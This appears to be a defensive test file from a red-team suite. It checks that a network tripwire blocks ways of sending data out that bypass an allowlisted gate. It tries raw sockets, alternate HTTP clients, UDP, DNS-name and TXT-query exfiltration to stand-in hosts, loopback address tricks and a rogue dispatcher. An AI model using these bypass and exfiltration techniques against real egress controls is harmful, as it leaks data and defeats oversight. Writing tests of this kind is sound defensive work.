import dgram from 'node:dgram'
import dns from 'node:dns'
import type { EventEmitter } from 'node:events'
import http from 'node:http'
import http2 from 'node:http2'
import https from 'node:https'
import net from 'node:net'
import tls from 'node:tls'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { EgressError } from '../../src/core/egress/EgressError'
import { createUndiciAgent, getGlobalDispatcher } from '../../src/core/egress/undiciDispatcher'
import {
  installTripwire,
  isTripwireInstalled,
  type TripwireTrip,
} from '../../src/core/egress/tripwire'
import {
  json,
  startLoopbackServer,
  startRedTeam,
  TOKEN,
  uploadBody,
  uploadHeaders,
  type LoopbackServer,
  type RedTeam,
} from './support/redteamHarness'

// Red team, part 3: every way out that is not the gate (DESIGN.md §5, tripwire). Targets are
// TEST-NET-3 (203.0.113.0/24, RFC 5737) and reserved names, so even a failure here sends nothing
// anywhere real. Each attempt must fail with EgressError('tripwire') before any socket opens.

const offsite = '203.0.113.9'
const trips: TripwireTrip[] = []
let team: RedTeam
let loopback: LoopbackServer
beforeAll(async () => {
  team = await startRedTeam()
  installTripwire({ allowLoopback: true, onTrip: (trip) => trips.push(trip) })
  loopback = await startLoopbackServer(() => ({ status: 200, body: 'ok' }))
})
afterAll(async () => {
  installTripwire({ allowLoopback: true })
  await loopback.close()
  await team.close()
})

/** Refused synchronously, or as the first 'error' of what `open` returns, with the tripwire's error. */
async function expectTripped(open: () => EventEmitter | Promise<unknown>): Promise<void> {
  const before = trips.length
  let error: unknown
  try {
    const opened = open()
    error = await (opened instanceof Promise
      ? opened.then(
          () => undefined,
          (e: unknown) => e,
        )
      : new Promise((resolve) => {
          opened.once('error', resolve)
          opened.once('connect', () => {
            resolve(undefined)
          })
          opened.once('response', () => {
            resolve(undefined)
          })
        }))
  } catch (thrown) {
    error = thrown
  }
  // fetch wraps a connector's error: TypeError('fetch failed', { cause }).
  const tripped =
    error instanceof EgressError ? error : (error as { cause?: unknown } | undefined)?.cause
  expect(tripped).toBeInstanceOf(EgressError)
  expect(tripped).toMatchObject({ code: 'tripwire' })
  expect(trips.length).toBeGreaterThan(before)
}

describe('red team: around the gate (tripwire)', () => {
  it('control: the tripwire is installed and loopback still works', async () => {
    expect(isTripwireInstalled()).toBe(true)
    expect(await (await fetch(`${loopback.origin}/`)).text()).toBe('ok')
  })

  it('direct fetch() to an off-site host', async () => {
    await expectTripped(() => fetch(`http://${offsite}/upload`, { method: 'POST', body: 'x' }))
  })

  it('direct fetch() to a name that resolves to loopback (127.0.0.1.nip.io), refused before lookup', async () => {
    await expectTripped(() => fetch('http://127.0.0.1.nip.io/'))
    await expectTripped(() => fetch('https://localhost./'))
  })

  it('fetch() with a fresh undici Agent of its own, bypassing the global dispatcher', async () => {
    const Agent = (getGlobalDispatcher() as unknown as { constructor: new () => object })
      .constructor
    const dispatcher = new Agent()
    await expectTripped(() => fetch(`http://${offsite}/`, { dispatcher } as RequestInit))
  })

  it('http.request', async () => {
    await expectTripped(() => http.request({ host: offsite, port: 80, method: 'POST' }).end())
  })

  it('http.get with a hostname', async () => {
    await expectTripped(() => http.get('http://media-drop.example/'))
  })

  it('https.request', async () => {
    await expectTripped(() => https.request(`https://${offsite}/`).end())
  })

  it('net.connect', async () => {
    await expectTripped(() => net.connect(443, offsite))
  })

  it('new net.Socket().connect', async () => {
    await expectTripped(() => new net.Socket().connect({ host: offsite, port: 443 }))
  })

  it('net.createConnection with the decimal spelling of loopback (2130706433)', async () => {
    await expectTripped(() =>
      net.createConnection({ host: '2130706433', port: Number(new URL(loopback.origin).port) }),
    )
  })

  it('net.connect to IPv4-mapped IPv6 ([::ffff:203.0.113.9])', async () => {
    await expectTripped(() => net.connect({ host: `::ffff:${offsite}`, port: 443 }))
  })

  it('tls.connect', async () => {
    await expectTripped(() => tls.connect({ host: offsite, port: 443, servername: 'example.com' }))
  })

  it('http2.connect', async () => {
    await expectTripped(() => http2.connect(`https://${offsite}`))
  })

  it('UDP datagram to an off-site host (dgram)', () => {
    const socket = dgram.createSocket('udp4')
    try {
      expect(() => {
        socket.send(Buffer.from('RIFF....WAVE'), 53, offsite)
      }).toThrow(expect.objectContaining({ code: 'tripwire' }))
      expect(() => {
        socket.connect(53, offsite)
      }).toThrow(expect.objectContaining({ code: 'tripwire' }))
    } finally {
      socket.close()
    }
  })

  it('DNS lookup exfiltration (data in the queried name)', async () => {
    const name = `${Buffer.from('RIFF').toString('hex')}.media-drop.example`
    expect(() => {
      dns.lookup(name, () => undefined)
    }).toThrow(expect.objectContaining({ code: 'tripwire' }))
    await expectTripped(() => dns.promises.lookup(name))
  })

  it('DNS TXT query exfiltration (resolver, and a Resolver instance)', async () => {
    expect(() => {
      dns.resolveTxt('x.media-drop.example', () => undefined)
    }).toThrow(expect.objectContaining({ code: 'tripwire' }))
    await expectTripped(() => new dns.promises.Resolver().resolveTxt('x.media-drop.example'))
  })

  it('control: the gate’s own sockets pass the tripwire (off-site, but allowlisted)', async () => {
    // TEST-NET-3 is unreachable: the request fails on the network, not at the tripwire.
    const gate = team.gateWith({
      backend: { url: `https://${offsite}`, token: TOKEN },
      timeouts: { connectMs: 300, totalMs: 2_000 },
    })
    const before = trips.length
    const body = json(uploadBody())
    const error = await gate
      .send({
        purpose: 'upload',
        url: `https://${offsite}/v1/transcripts`,
        method: 'POST',
        headers: uploadHeaders({}, body),
        body,
      })
      .catch((e: unknown) => e)
    expect(error).toBeInstanceOf(EgressError)
    expect((error as EgressError).code).toMatch(/^(timeout|network-error)$/)
    expect(trips.length).toBe(before)
    expect(team.audit.list({ kind: 'outcome', limit: 10_000 }).at(-1)?.reason).toBe(
      (error as EgressError).code,
    )
  })

  it('a fake gate pass: an Agent made through the gate’s helper still opens no off-site socket', async () => {
    const agent = createUndiciAgent((_options, callback) => {
      callback(null, net.connect(443, offsite))
    })
    await expectTripped(() => fetch(`http://${offsite}/`, { dispatcher: agent } as RequestInit))
  })
})
